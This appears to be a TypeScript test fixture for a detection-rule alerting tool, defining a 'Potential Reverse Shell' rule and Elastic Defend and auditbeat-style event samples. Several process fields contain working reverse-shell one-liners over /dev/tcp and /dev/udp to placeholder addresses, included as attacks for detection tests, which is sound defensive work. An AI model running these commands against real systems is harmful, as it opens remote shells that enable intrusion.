// Rules written as objects, and documents shaped like those of Elastic Defend and auditbeat, for tests of alerts and
// reports: neither needs a rule file or the language.
import { createHash } from 'node:crypto';
import {
  buildAlert,
  type Alert,
  type AlertSuppression,
  type MatchedEvent,
} from '../../src/alert/index.js';
import type { CheckedQuery, CheckedSubquery } from '../../src/eql/index.js';
import {
  keyText,
  parseTimestamp,
  type JoinKey,
  type JsonObject,
  type Scalar,
} from '../../src/event/index.js';
import type { Rule, ThreatMapping } from '../../src/rule/index.js';

/** The digest that the command line uses. */
export function sha256(text: string): string {
  return createHash('sha256').update(text).digest('hex');
}

const SPAN = { start: 0, end: 0 };

const ANY = {
  category: null,
  condition: { kind: 'literal', span: SPAN, value: true, integer: false },
} as const;

function subquery(fields: readonly string[]): CheckedSubquery {
  const keys = fields.map(
    (path) => ({ kind: 'field', span: SPAN, path, optional: false }) as const,
  );
  return { filter: ANY, keys };
}

export const EVENT_QUERY: CheckedQuery = { kind: 'event', filter: ANY, pipes: [] };

/** A sequence with these key fields by stage; `missing` lists stages that are `![ … ]`. */
export function sequenceBy(
  fields: readonly (readonly string[])[],
  missing: readonly number[] = [],
): CheckedQuery {
  const stages = fields.map((stage, index) => ({
    subquery: subquery(stage),
    missing: missing.includes(index),
  }));
  return { kind: 'sequence', stages, until: null, maxspanMs: null, pipes: [] };
}

export function sampleBy(fields: readonly string[], size: number): CheckedQuery {
  return { kind: 'sample', subqueries: Array.from({ length: size }, () => subquery(fields)) };
}

export function keyOf(...values: readonly (Scalar | null)[]): JoinKey {
  return { values, text: keyText(values) };
}

export const THREAT: readonly ThreatMapping[] = [
  {
    framework: 'MITRE ATT&CK',
    tactic: {
      id: 'TA0002',
      name: 'Execution',
      reference: 'https://attack.mitre.org/tactics/TA0002/',
    },
    techniques: [
      {
        id: 'T1059',
        name: 'Command and Scripting Interpreter',
        reference: 'https://attack.mitre.org/techniques/T1059/',
        subtechniques: [
          {
            id: 'T1059.004',
            name: 'Unix Shell',
            reference: 'https://attack.mitre.org/techniques/T1059/004/',
          },
        ],
      },
    ],
  },
  {
    framework: 'MITRE ATT&CK',
    tactic: { id: 'TA0011', name: 'Command and Control', reference: null },
    techniques: [
      { id: 'T1071', name: 'Application Layer Protocol', reference: null, subtechniques: [] },
    ],
  },
];

/** A rule with everything set that an alert shows; `changes` replace parts of it. */
export function ruleWith(changes: Partial<Rule> = {}): Rule {
  const source = { name: 'rules/elastic/reverse_shell.toml', text: '' };
  return {
    id: '48b3d2e3-f4e8-41e6-95e6-9b2091228db3',
    name: 'Potential Reverse Shell',
    description: 'A shell connects out and then spawns an interactive shell.',
    severity: 'medium',
    riskScore: 47,
    version: 11,
    maturity: 'production',
    deprecated: false,
    buildingBlock: false,
    author: ['Elastic'],
    license: 'Elastic License v2',
    created: '2023/07/04',
    updated: '2025/01/15',
    tags: ['OS: Linux', 'Tactic: Execution'],
    references: ['https://example.org/reverse-shells'],
    falsePositives: ['Remote administration tools.'],
    note: '## Triage\n\nLook at the destination.',
    setup: null,
    integrations: ['endpoint'],
    index: ['logs-endpoint.events.*'],
    threat: THREAT,
    from: null,
    interval: null,
    suppression: null,
    maxSignals: null,
    investigationFields: [],
    eventCategoryField: null,
    timestampField: null,
    tiebreakerField: null,
    source,
    querySource: { name: source.name, text: 'process where true' },
    query: EVENT_QUERY,
    ...changes,
  };
}

/** An event at `line` of `samples/attack.ndjson`, 512 bytes a line; `changes` replace parts of it. */
export function eventAt(
  line: number,
  document: JsonObject,
  changes: Partial<MatchedEvent> = {},
): MatchedEvent {
  const time = document['@timestamp'];
  return {
    document,
    time: typeof time === 'string' ? parseTimestamp(time) : null,
    place: { file: 'samples/attack.ndjson', line, offset: (line - 1) * 512, index: 0 },
    id: null,
    indexName: null,
    ...changes,
  };
}

const HOST = { id: '9f2c1c9b8e7d4f6a', name: 'web-01', os: { type: 'linux' } };
const USER = { id: '33', name: 'www-data' };

/** Elastic Defend: a shell that connects out. */
export const CONNECTION: JsonObject = {
  '@timestamp': '2026-11-20T08:14:01.7022135Z',
  agent: { type: 'endpoint' },
  event: {
    action: 'connection_attempted',
    category: ['network'],
    type: ['start'],
    sequence: 1017,
  },
  host: HOST,
  user: USER,
  process: {
    pid: 4410,
    name: 'bash',
    executable: '/usr/bin/bash',
    entity_id: 'YWdlbnQtNDQxMA==',
    parent: { entity_id: 'YWdlbnQtODEy' },
  },
  source: { ip: '10.0.0.5', port: 51234 },
  destination: { ip: '203.0.113.7', port: 4444 },
  network: { direction: 'egress', transport: 'tcp' },
};

/** Elastic Defend: the interactive shell that it starts. */
export const INTERACTIVE_SHELL: JsonObject = {
  '@timestamp': '2026-11-20T08:14:02.118Z',
  agent: { type: 'endpoint' },
  event: { action: 'exec', category: ['process'], type: ['start'], sequence: 1021 },
  host: HOST,
  user: USER,
  process: {
    pid: 4412,
    name: 'bash',
    executable: '/usr/bin/bash',
    args: ['bash', '-i'],
    command_line: 'bash -i',
    entity_id: 'YWdlbnQtNDQxMg==',
    parent: {
      pid: 4410,
      name: 'bash',
      executable: '/usr/bin/bash',
      command_line: 'bash -c exec bash -i &>/dev/tcp/203.0.113.7/4444 <&1',
      entity_id: 'YWdlbnQtNDQxMA==',
    },
  },
};

/** Elastic Defend: one process that tells everything. */
export const BACKGROUND_SHELL: JsonObject = {
  '@timestamp': '2026-11-20T09:30:10.002Z',
  event: { action: ['fork', 'exec'], category: ['process'], type: ['start'] },
  'host.id': '9f2c1c9b8e7d4f6a',
  host: { name: 'web-01', 'os.type': 'linux' },
  user: { id: '0', name: 'root' },
  process: {
    pid: 5107,
    name: 'setsid',
    executable: '/usr/bin/setsid',
    args: ['setsid', 'bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
    parent: { pid: 5100, name: 'sh', executable: '/usr/bin/dash' },
  },
};

/** auditbeat: one of the files that Meterpreter opens. */
export function fileOpened(path: string, sequence: number): JsonObject {
  return {
    '@timestamp': '2026-11-21T04:14:03.611Z',
    auditd: { sequence, data: { syscall: 'open', a2: '1b6', exit: '3' } },
    event: { action: 'opened-file', category: ['file'], type: ['info'], module: 'auditd' },
    host: { id: 'b41d', name: 'db-02', os: { type: 'linux' } },
    user: { id: '1000' },
    process: {
      pid: 25459,
      name: 'meter',
      executable: '/srv/meter',
      title: './meter --fingerprint',
      parent: { pid: 25440 },
    },
    file: { path },
  };
}

/** auditbeat: a system call of one UDP shell; socket has no action there, and ports are strings. */
export function udpCall(syscall: 'execve' | 'socket' | 'connect'): JsonObject {
  const base = {
    auditd: { data: { syscall } },
    host: { id: 'b41d', name: 'db-02', os: { type: 'linux' } },
    user: { id: '1000' },
  };
  const process = { pid: 25407, name: 'bash', parent: { pid: 25405 } };
  switch (syscall) {
    case 'execve':
      return {
        ...base,
        '@timestamp': '2026-11-21T04:14:01.100Z',
        event: { action: 'executed', category: ['process'], type: ['start'] },
        process: {
          ...process,
          args: ['bash', '-c', 'sh -i >& /dev/udp/10.99.0.2/53 0>&1'],
          title: 'bash -c sh -i >& /dev/udp/10.99.0.2/53 0>&1',
        },
      };
    case 'socket':
      return {
        ...base,
        '@timestamp': '2026-11-21T04:14:01.108Z',
        event: { category: ['process'], type: ['info'] },
        process,
      };
    case 'connect':
      return {
        ...base,
        '@timestamp': '2026-11-21T04:14:01.108Z',
        event: { action: 'connected-to', category: ['network'], type: ['connection', 'start'] },
        process,
        destination: { ip: '10.99.0.2', port: '53' },
        network: { direction: 'egress' },
      };
  }
}

/** An alert whose id is the digest of `name`. */
export function alertOf(
  name: string,
  rule: Rule,
  events: readonly (MatchedEvent | null)[],
  key: JoinKey = keyOf(),
): Alert {
  return buildAlert({ rule, events, key }, sha256(name).slice(0, 32));
}

/** The alert, not reported. */
export function suppressedBy(alert: Alert, changes: Partial<AlertSuppression>): Alert {
  const plain = { by: 'allow', reason: 'why', entry: null, owner: null, alert: null } as const;
  return { ...alert, suppressed: { ...plain, ...changes } };
}
